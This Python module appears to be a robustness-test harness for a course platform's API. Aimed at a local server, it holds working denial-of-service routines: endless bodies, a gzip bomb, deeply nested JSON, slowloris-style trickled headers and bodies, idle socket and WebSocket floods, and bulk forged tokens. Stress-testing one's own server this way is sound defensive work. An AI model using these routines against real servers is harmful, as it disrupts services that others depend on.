"""What somebody might do to a server to use it up: plain sockets that lie, dawdle or flood.

`python -m attacks NAME PORT TOKEN COURSE SIZE` does one of them and prints what was answered, as JSON: in a process of
its own, so that whoever measures the server meanwhile does not measure the attack's own work.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import resource
import sys
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path

CHUNK = bytes(65_536)


def make_head(path: str, *, token: str = "", length: int | None = None, **headers: str) -> bytes:
    """The head of a POST of JSON."""
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json"]
    lines += [f"Authorization: Bearer {token}"] if token else []
    lines += [f"Content-Length: {length}"] if length is not None else []
    lines += [f"{name}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode()


@asynccontextmanager
async def open_socket(port: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """One connection, closed at the end."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def read_answer(reader: asyncio.StreamReader) -> bytes:
    """One whole answer; what there is of it, where the server hangs up."""
    answer = b""
    while more := await reader.read(65_536):
        answer += more
        head, _, body = answer.partition(b"\r\n\r\n")
        length = re.search(rb"content-length: (\d+)", head.lower())
        if length and len(body) >= int(length[1]):
            break
    return answer


async def send_endless_body(port: int, head: bytes, size: int) -> tuple[bytes, int]:
    """Send a body of `size` bytes after the head until the server has had enough: its answer, and what it took."""
    async with open_socket(port) as (reader, writer):
        sent = 0
        try:
            writer.write(head)
            while sent < size:
                writer.write(CHUNK)
                await writer.drain()
                sent += len(CHUNK)
        except ConnectionError:
            pass  # it has hung up
        try:
            return await asyncio.wait_for(read_answer(reader), 30), sent
        except ConnectionError:
            return b"", sent


async def trickle(port: int, begin: bytes, drop: bytes, every_s: float, limit_s: float) -> tuple[bytes, float]:
    """Send `begin`, then one `drop` after the other, until hung up on: the answer, and after how many seconds."""
    loop = asyncio.get_running_loop()
    async with open_socket(port) as (reader, writer):
        started_s = loop.time()
        writer.write(begin)
        answer = asyncio.create_task(reader.read())
        try:
            while loop.time() - started_s < limit_s:
                done, _ = await asyncio.wait([answer], timeout=every_s)
                if done:
                    break
                writer.write(drop)
            return await asyncio.wait_for(answer, 1), loop.time() - started_s
        except ConnectionError:
            return b"", loop.time() - started_s


class Idlers:
    """Sockets that are opened and never say a word."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._writers: list[asyncio.StreamWriter] = []
        self._ends: list[asyncio.Task[bytes]] = []

    async def open(self, count: int, greeting: bytes = b"") -> None:
        """So many more; each sends `greeting` at most."""
        for start in range(0, count, 100):
            opened = await asyncio.gather(
                *(asyncio.open_connection("127.0.0.1", self._port) for _ in range(min(100, count - start)))
            )
            for reader, writer in opened:
                if greeting:
                    writer.write(greeting)
                self._ends.append(asyncio.create_task(reader.read()))
                self._writers.append(writer)

    def count_open(self) -> int:
        """Those that the server has not closed."""
        return sum(not end.done() for end in self._ends)

    async def close(self) -> None:
        """Leave."""
        for writer in self._writers:
            writer.transport.abort()
        await asyncio.gather(*self._ends, return_exceptions=True)


def make_gzip_bomb(size: int) -> bytes:
    """So many spaces, about a thousandth of that on the wire."""
    packer, part = zlib.compressobj(6, zlib.DEFLATED, 31), b" " * 1_000_000
    return b"".join([*(packer.compress(part) for _ in range(size // len(part))), packer.flush()])


def make_batch(count: int) -> bytes:
    """As small as so many events can be."""
    return json.dumps([{}] * count, separators=(",", ":")).encode()


def make_deep(depth: int) -> bytes:
    """Arrays in arrays."""
    return b"[" * depth + b"]" * depth


def read_rss_mb(pid: int) -> float:
    """What of a process is in memory now."""
    lines = Path(f"/proc/{pid}/status").read_text(encoding="ascii").splitlines()
    return int(next(line for line in lines if line.startswith("VmRSS:")).split()[1]) / 1_000


# --- each as a whole --------------------------------------------------------------------------------------------------


class Target:
    """Whom an attack is made on: a port, a student's token, a course, and how large the attack is."""

    def __init__(self, port: int, token: str, course_id: str, size: int) -> None:
        self.port, self.token, self.course_id, self.size = port, token, course_id, size


async def post(port: int, path: str, body: bytes, **headers: str) -> str:
    """The status and code of an answer, as "413 NB-1004"; "closed" where there was none."""
    async with open_socket(port) as (reader, writer):
        try:
            writer.write(make_head(path, length=len(body), **headers) + body)
            await writer.drain()
            return name_answer(await asyncio.wait_for(read_answer(reader), 60))
        except ConnectionError:
            return "closed"


def name_answer(answer: bytes) -> str:
    """As `post`."""
    if not answer:
        return "closed"
    place = answer.find(b'"code":"')
    code = answer[place + 8 : place + 15].decode() if place > 0 else ""
    return f"{answer[9:12].decode()} {code}".strip()


async def attack_endless_body(target: Target) -> Counter[str]:
    """A body of `size` bytes to three routes, with a token, with none that works, and where none is needed."""
    heads = (
        make_head("/api/v1/events", token=target.token, length=target.size),
        make_head("/api/v1/events", token="nbp_student_none", length=target.size),
        make_head("/api/v1/join", length=target.size),
    )
    found = await asyncio.gather(*(send_endless_body(target.port, head, target.size) for head in heads))
    return Counter(name_answer(answer) for answer, _ in found)


async def attack_gzip_bomb(target: Target) -> Counter[str]:
    """A body that inflates to `size` bytes, twenty times at once."""
    bomb = make_gzip_bomb(target.size)
    headers = {"Authorization": f"Bearer {target.token}", "Content-Encoding": "gzip"}
    return Counter(await asyncio.gather(*(post(target.port, "/api/v1/events", bomb, **headers) for _ in range(20))))


async def attack_batch(target: Target) -> Counter[str]:
    """A batch of `size` events, and one of as many as a body can hold, ten times each."""
    bodies = [make_batch(target.size), make_batch(300_000)] * 10
    headers = {"Authorization": f"Bearer {target.token}"}
    return Counter([await post(target.port, "/api/v1/events", body, **headers) for body in bodies])


async def attack_depth(target: Target) -> Counter[str]:
    """Arrays in arrays, `size` deep, to a route with a token and one without, ten times each."""
    found: Counter[str] = Counter()
    for path, depth in (("/api/v1/events", target.size), ("/api/v1/join", min(target.size, 8_000))) * 10:
        found[await post(target.port, path, make_deep(depth), Authorization=f"Bearer {target.token}")] += 1
    return found


async def attack_slow_heads(target: Target) -> Counter[str]:
    """`size` connections that send a head, a line in a while."""
    begin = b"GET /health/live HTTP/1.1\r\nHost: x\r\n"
    return await _trickle_many(target, begin, b"X-A: b\r\n")


async def attack_slow_bodies(target: Target) -> Counter[str]:
    """`size` connections that send a body, a byte in a while."""
    return await _trickle_many(target, make_head("/api/v1/join", length=10_000), b" ")


async def _trickle_many(target: Target, begin: bytes, drop: bytes) -> Counter[str]:
    limit = asyncio.Semaphore(200)  # connecting at once; then all of them dawdle together
    found: Counter[str] = Counter()

    async def dawdle() -> None:
        async with limit:
            await asyncio.sleep(0)
        try:
            answer, _ = await trickle(target.port, begin, drop, 1.0, 45)
        except (OSError, TimeoutError):
            answer = b""
        found[name_answer(answer)] += 1

    await asyncio.gather(*(dawdle() for _ in range(target.size)))
    return found


async def attack_idle_sockets(target: Target) -> Counter[str]:
    """`size` connections that never say a word, for 12 s."""
    idlers = Idlers(target.port)
    await idlers.open(target.size)
    await asyncio.sleep(12)
    still_open = idlers.count_open()
    await idlers.close()
    return Counter({"open after 12 s": still_open, "closed": target.size - still_open})


async def attack_idle_websockets(target: Target) -> Counter[str]:
    """`size` WebSockets that never say whose they are, for 12 s."""
    head = (
        f"GET /api/v1/courses/{target.course_id}/ws HTTP/1.1\r\nHost: x\r\n"
        "Upgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()
    idlers = Idlers(target.port)
    await idlers.open(target.size, head)
    await asyncio.sleep(25)  # a close that nobody answers is waited for, for 10 s
    still_open = idlers.count_open()
    await idlers.close()
    return Counter({"open after 25 s": still_open, "closed": target.size - still_open})


async def attack_bad_tokens(target: Target) -> Counter[str]:
    """`size` requests with tokens that are none, on twenty connections."""
    found: Counter[str] = Counter()

    async def ask(count: int) -> None:
        for number in range(count):
            token = f"nbp_student_{number:032x}_{'x' * 43}"
            found[await post(target.port, "/api/v1/events", b"[]", Authorization=f"Bearer {token}")] += 1

    await asyncio.gather(*(ask(target.size // 20) for _ in range(20)))
    return found


ATTACKS: dict[str, Callable[[Target], Awaitable[Counter[str]]]] = {
    "endless_body": attack_endless_body,
    "gzip_bomb": attack_gzip_bomb,
    "batch": attack_batch,
    "depth": attack_depth,
    "slow_heads": attack_slow_heads,
    "slow_bodies": attack_slow_bodies,
    "idle_sockets": attack_idle_sockets,
    "idle_websockets": attack_idle_websockets,
    "bad_tokens": attack_bad_tokens,
}
FULL_SIZES = {
    "endless_body": 1_000_000_000,
    "gzip_bomb": 1_000_000_000,
    "batch": 1_000_000,
    "depth": 400_000,
    "slow_heads": 3_000,
    "slow_bodies": 3_000,
    "idle_sockets": 10_000,
    "idle_websockets": 1_000,
    "bad_tokens": 5_000,
}


def main() -> None:
    name, port, token, course_id, size = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65_536), hard))
    found = asyncio.run(ATTACKS[name](Target(int(port), token, course_id, int(size))))
    print(json.dumps(found))  # noqa: T201


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        main()
